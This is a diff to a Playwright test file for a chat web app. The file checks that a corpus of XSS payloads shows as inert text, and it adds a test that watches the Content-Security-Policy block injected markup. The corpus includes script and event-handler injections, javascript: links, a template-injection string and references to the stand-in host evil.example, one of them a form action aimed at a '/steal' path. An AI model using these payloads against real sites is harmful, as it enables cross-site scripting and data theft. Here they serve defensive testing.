@@ -11,7 +11,7 @@ import pytest
 from playwright.sync_api import expect
 
 from tests.web.conftest import OpenPage, WebApp
-from tests.web.harness import screenshot
+from tests.web.harness import WATCH_SCRIPT, screenshot
 from tests.web.seed import seed_conversation
 
 pytestmark = pytest.mark.slow
@@ -20,40 +20,40 @@ EVIL = "https://evil.example"
 CORPUS = [
     "<script>window.__xss = 1; alert('script')</script>",
     "<img src=x onerror=\"window.__xss = 2; alert('img')\">",
-    "<svg onload=\"window.__xss = 3\"><circle r=5 /></svg>",
-    "<iframe src=\"https://evil.example/frame\"></iframe>",
+    '<svg onload="window.__xss = 3"><circle r=5 /></svg>',
+    '<iframe src="https://evil.example/frame"></iframe>',
     "<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/bg.png) }</style>",
-    "<link rel=stylesheet href=\"https://evil.example/b.css\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
-    "<base href=\"https://evil.example/\">",
-    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y.swf\">",
-    "<video poster=\"https://evil.example/p.png\"><source src=\"https://evil.example/v.mp4\"></video>",
-    "<div style=\"background-image: url(https://evil.example/div.png)\">styled</div>",
-    "<form action=\"https://evil.example/steal\"><input name=q autofocus onfocus=\"window.__xss = 4\"><button>go</button></form>",
-    "<details open ontoggle=\"window.__xss = 5\"><summary>s</summary></details>",
-    "<a href=\"javascript:window.__xss = 6\">raw javascript link</a>",
-    "<a href=\"&#106;avascript:window.__xss = 7\">entity link</a>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss = 8\"></style></mglyph></table></mtext></math>",
+    '<link rel=stylesheet href="https://evil.example/b.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
+    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
+    '<div style="background-image: url(https://evil.example/div.png)">styled</div>',
+    '<form action="https://evil.example/steal"><input name=q autofocus onfocus="window.__xss = 4"><button>go</button></form>',
+    '<details open ontoggle="window.__xss = 5"><summary>s</summary></details>',
+    '<a href="javascript:window.__xss = 6">raw javascript link</a>',
+    '<a href="&#106;avascript:window.__xss = 7">entity link</a>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 8"></style></mglyph></table></mtext></math>',
     "<noscript><p title=\"</noscript><img src=x onerror='window.__xss = 9'>\"></noscript>",
-    "\"><img src=x onerror=\"window.__xss = 10\"><\"",
+    '"><img src=x onerror="window.__xss = 10"><"',
     "[markdown javascript link](javascript:window.__xss=11)",
     "[reference link][evil]\n\n[evil]: javascript:window.__xss=12",
     "![remote image](https://evil.example/pixel.png)",
     "![relative image](/api/auth/logout)",
-    "<img src=\"https://evil.example/raw.png\" alt=raw>",
+    '<img src="https://evil.example/raw.png" alt=raw>',
     "[a normal outside link](https://evil.example/page)",
     "```js\" onmouseover=\"window.__xss=13\nconsole.log('code')\n```",
-    "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nd2luZG93Ll9feHNzPTE0Jy8+\">",
+    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nd2luZG93Ll9feHNzPTE0Jy8+">',
     "{{constructor.constructor('window.__xss=15')()}}",
-    "<template><img src=x onerror=\"window.__xss=16\"></template>",
+    '<template><img src=x onerror="window.__xss=16"></template>',
 ]
 TITLES = [
-    "<img src=x onerror=\"window.__xss = 20\">",
-    "\"><script>window.__xss = 21</script>",
+    '<img src=x onerror="window.__xss = 20">',
+    '"><script>window.__xss = 21</script>',
     "<svg/onload=window.__xss=22>",
 ]
 PERSONAS = [
-    "<img src=x onerror=\"window.__xss = 30\">",
+    '<img src=x onerror="window.__xss = 30">',
     "</li><script>window.__xss = 31</script>",
 ]
 
@@ -117,13 +117,17 @@ def test_hostile_text_everywhere_stays_text(open_page: OpenPage, web_app: WebApp
     turns += [("user", corpus), ("assistant", corpus)]
     conv_id, _ = seed_conversation(web_app.db_url, web_app.admin_id, TITLES[0], turns)
     for title in TITLES[1:]:
-        seed_conversation(web_app.db_url, web_app.admin_id, title, [("user", title), ("assistant", title)])
+        seed_conversation(
+            web_app.db_url, web_app.admin_id, title, [("user", title), ("assistant", title)]
+        )
 
     page = open_page(f"/c/{conv_id}")
     expect(page.locator(".msg").first).to_be_visible()
     # everything is shown, as text
     expect(page.locator(".msg__bubble").last).to_contain_text("<script>window.__xss = 1;")
-    expect(page.locator(".msg--assistant .msg__content").last).to_contain_text("<img src=x onerror=")
+    expect(page.locator(".msg--assistant .msg__content").last).to_contain_text(
+        "<img src=x onerror="
+    )
     expect(page.locator(".topbar__title")).to_have_text(TITLES[0])
     for title in TITLES:
         expect(page.locator(".conv-item__title", has_text=title)).to_have_count(1)
@@ -171,3 +175,30 @@ def test_hostile_text_everywhere_stays_text(open_page: OpenPage, web_app: WebApp
     expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=150_000)
     expect(page.locator(".msg__bubble").last).to_contain_text("onerror=")
     assert_inert(page)
+
+
+def test_the_watch_sees_what_the_sanitiser_would_have_let_through(
+    browser: Any, web_app: WebApp
+) -> None:
+    """The checks above are not blind: markup injected behind the sanitiser's back is
+    refused by the Content-Security-Policy, and the refusal is seen."""
+    context = browser.new_context(base_url=web_app.url)
+    try:
+        context.add_init_script(WATCH_SCRIPT)
+        page = context.new_page()
+        page.goto("/login")
+        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
+        page.evaluate(
+            """() => {
+            const box = document.createElement('div');
+            box.innerHTML = '<img src="https://evil.example/x.png"><img src=x onerror="window.__xss = 1">';
+            document.body.append(box);
+        }"""
+        )
+        page.wait_for_function("window.__csp.length >= 2")
+        violations = " ".join(page.evaluate("window.__csp"))
+        assert "img-src https://evil.example/x.png" in violations
+        assert "script-src-attr" in violations
+        assert page.evaluate("window.__xss") is None
+    finally:
+        context.close()
